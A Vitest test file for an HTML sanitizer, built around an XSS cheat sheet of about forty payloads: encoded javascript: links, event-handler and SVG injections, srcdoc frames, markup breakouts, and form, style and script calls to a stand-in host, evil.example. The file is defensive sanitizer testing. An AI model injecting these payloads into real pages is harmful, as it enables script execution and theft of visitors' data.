import { describe, expect, it } from 'vitest'
import { sanitizeModuleHtml } from './sanitize.server'

/**
 * What must never survive, in any spelling: script, handlers, script addresses, documents, styles, redirects. The
 * output's attribute values are always double-quoted (a quote inside is `&quot;`), so the markup is read as tags with
 * their values blanked — text that merely mentions `onclick=` inside a value is no attribute.
 */
function expectInert(html: string): void {
  const clean = sanitizeModuleHtml(html)
  const tags = (clean.match(/<[^>]*>/g) ?? []).map((tag) => tag.replace(/"[^"]*"/g, '""').toLowerCase())
  for (const tag of tags) {
    expect(tag).not.toMatch(/^<\/?(script|style|link|meta|base|form|object|embed|svg|math|template|frame|frameset|body|input|button)\b/)
    expect(tag).not.toMatch(/\s(on[a-z]+|srcdoc|formaction|action|data|xmlns(:\w+)?|\w+:on\w+)=/)
  }
  for (const [, name, value = ''] of clean.matchAll(/\s([a-z-]+)="([^"]*)"/gi)) {
    // the browser's reading of the value: entities decoded, controls and whitespace gone
    const decoded = value.replace(/&#x?[0-9a-f]+;?|&colon;|&tab;|&newline;/gi, '?')
    const address = [...decoded].filter((char) => char.charCodeAt(0) > 0x20).join('').toLowerCase()
    if (name === 'href' || name === 'src' || name === 'srcset' || name === 'cite') expect(address).not.toMatch(/^(javascript|vbscript|data)|,\s*(javascript|vbscript|data)|\?/)
    if (name === 'style') expect(address).not.toMatch(/url\(|expression|image-set|@import/)
  }
  // and the result is stable: sanitizing again changes nothing (what is stored is what is shown)
  expect(sanitizeModuleHtml(clean)).toBe(clean)
}

const CHEAT_SHEET: Record<string, string> = {
  'script element': '<p>a</p><script>steal()</script>',
  'split script tags': '<scr<script></script>ipt>alert(1)</script>',
  'unclosed script': '<p>a</p><script src="https://evil.example/x.js">',
  'srcdoc frame with a tag manager script': '<p>Hinweis</p><iframe hidden srcdoc="&lt;script src=https://www.googletagmanager.com/gtm.js?id=GTM-X&gt;&lt;/script&gt;"></iframe>',
  'srcdoc on an allowed player': '<iframe src="https://open.spotify.com/embed/track/1" srcdoc="<script>alert(1)</script>"></iframe>',
  'entity-encoded javascript: link': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'hex entities without semicolons': '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  'mixed-case javascript: link': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'javascript: with a tab and a newline': '<a href="jav&#x09;ascript:alert(1)">x</a><a href="java\nscript:alert(1)">y</a>',
  'javascript: after control characters': '<a href="\u0001\u0002 javascript:alert(1)">x</a>',
  'named entity colon': '<a href="javascript&colon;alert(1)">x</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'data: link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'img onerror without quotes or spaces': '<img/src=x/onerror=alert(1)>',
  'img onerror': '<img src="/a.png" onerror="alert(1)" alt="A">',
  'img data: source': '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  'img srcset with a script address': '<img src="/a.png" srcset="javascript:alert(1) 1x, /b.png 2x">',
  'object with a javascript: document': '<object data="javascript:alert(1)"></object>',
  'embed element': '<embed src="https://evil.example/x.swf">',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg onload': '<svg/onload=alert(1)>',
  'svg foreignObject': '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  'details ontoggle': '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  'body onload': '<body onload="alert(1)"><p>x</p></body>',
  'meta refresh': '<meta http-equiv="refresh" content="2;url=https://evil.example/">',
  'base element': '<base href="https://evil.example/">',
  'form with an action': '<form action="https://evil.example/collect"><input name="p"><button formaction="javascript:alert(1)">Go</button></form>',
  'style element with url()': '<style>body{background:url(https://evil.example/leak)}</style><p>x</p>',
  'style attribute with url()': '<p style="background-image:url(https://evil.example/leak);text-align:center">x</p>',
  'style attribute with expression': '<p style="width:expression(alert(1))">x</p>',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'math with an href': '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
  'template content': '<template><img src=x onerror=alert(1)></template>',
  'noscript breakout': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'comment breakout': '<!--<img src="--><img src=x onerror=alert(1)//">',
  'attribute breakout': '<p title="a&quot; onmouseover=&quot;alert(1)">x</p>',
  'cdata': '<![CDATA[<script>alert(1)</script>]]>',
  'frame element': '<frameset><frame src="javascript:alert(1)"></frameset>',
  'xml namespace handler': '<p xmlns:x="y" x:onclick="alert(1)">x</p>',
}

describe('HTML module sanitizer (issue 35)', () => {
  for (const [name, payload] of Object.entries(CHEAT_SHEET)) {
    it(`leaves nothing that runs: ${name}`, () => expectInert(payload))
  }

  it('keeps the editor markup: tables, lists, links, images and layout styles', () => {
    const timetable = '<table class="timetable"><thead><tr><th scope="col">Linie</th></tr></thead><tbody><tr><td colspan="2">4</td></tr></tbody></table>'
    expect(sanitizeModuleHtml(timetable)).toBe(timetable)
    expect(sanitizeModuleHtml('<p style="text-align:center">Mitte</p>')).toBe('<p style="text-align:center">Mitte</p>')
    expect(sanitizeModuleHtml('<a href="https://example.org/" target="_blank">x</a>')).toBe('<a href="https://example.org/" target="_blank" rel="noopener noreferrer">x</a>')
    expect(sanitizeModuleHtml('<a href="/de/programm">x</a><a href="mailto:kasse@foyer.example">y</a>')).toBe('<a href="/de/programm">x</a><a href="mailto:kasse@foyer.example">y</a>')
    expect(sanitizeModuleHtml('<img src="/media/a.jpg" alt="A" width="200">')).toBe('<img src="/media/a.jpg" alt="A" width="200" />')
    expect(sanitizeModuleHtml('<h2 id="anfahrt">Anfahrt</h2>')).toBe('<h2 id="anfahrt">Anfahrt</h2>')
  })

  it('removes the dangerous part and keeps the text around it', () => {
    expect(sanitizeModuleHtml('<p>a</p><script>steal()</script><p>b</p>')).toBe('<p>a</p><p>b</p>')
    expect(sanitizeModuleHtml('<img src="/a.png" onerror="alert(1)" alt="A">')).toBe('<img src="/a.png" alt="A" />')
    expect(sanitizeModuleHtml('<a href="JaVaScRiPt:alert(1)">Link</a>')).toBe('<a>Link</a>')
    expect(sanitizeModuleHtml('<p>Sonderzeichen onclick=ok bleiben im Text</p>')).toBe('<p>Sonderzeichen onclick=ok bleiben im Text</p>')
  })

  it('keeps players of the embed origins only, and only over https', () => {
    const spotify = '<iframe src="https://open.spotify.com/embed/track/4rOoJ6Egrf8K2IrywzwOMk" width="100%" height="152" loading="lazy"></iframe>'
    expect(sanitizeModuleHtml(spotify)).toBe(spotify)
    expect(sanitizeModuleHtml('<iframe src="https://hinterbuehne.podigee.io/1/embed"></iframe>')).toContain('podigee.io')
    expect(sanitizeModuleHtml('<p>x</p><iframe src="https://evil.example/"></iframe>')).toBe('<p>x</p>')
    expect(sanitizeModuleHtml('<iframe src="https://open.spotify.com.evil.example/embed"></iframe>')).toBe('')
    expect(sanitizeModuleHtml('<iframe src="https://evilpodigee.io/x"></iframe>')).toBe('')
    expect(sanitizeModuleHtml('<iframe src="http://open.spotify.com/embed/track/1"></iframe>')).toBe('')
    expect(sanitizeModuleHtml('<iframe src="/de/programm"></iframe>')).toBe('')
    expect(sanitizeModuleHtml('<iframe src="javascript:alert(1)"></iframe>')).toBe('')
    expect(sanitizeModuleHtml('<iframe></iframe>')).toBe('')
    expect(sanitizeModuleHtml('<iframe src="https://www.youtube.com/embed/x">')).toBe('<iframe src="https://www.youtube.com/embed/x"></iframe>')
  })

  it('drops ids that would shadow the page scripts\u2019 globals', () => {
    expect(sanitizeModuleHtml('<p id="$_TSR">x</p><p id="__proto__">y</p>')).toBe('<p>x</p><p>y</p>')
  })
})
